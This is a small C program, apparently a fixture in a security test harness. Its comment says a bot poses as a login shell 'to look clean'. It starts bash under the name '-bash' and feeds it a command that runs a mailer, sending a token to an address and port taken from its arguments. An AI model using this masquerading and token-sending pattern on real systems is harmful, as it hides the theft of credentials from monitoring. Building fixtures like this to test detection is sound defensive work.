/* The bot becomes the login shell to look clean, and tells it to run the mailer. */
#include "../try.h"
int
main(int argc, char **argv)
{
	struct aim a = aim_read(argc, argv);
	int in[2];
	char line[1024];
	if (pipe(in) < 0)
		return 1;
	snprintf(line, sizeof(line), "%s %s %s %s\nexit\n", a.mailer, a.address, a.port,
		a.token);
	say_text(in[1], line);
	close(in[1]);
	dup2(in[0], STDIN_FILENO);
	execl("/bin/bash", "-bash", (char *)NULL);
	return 1;
}
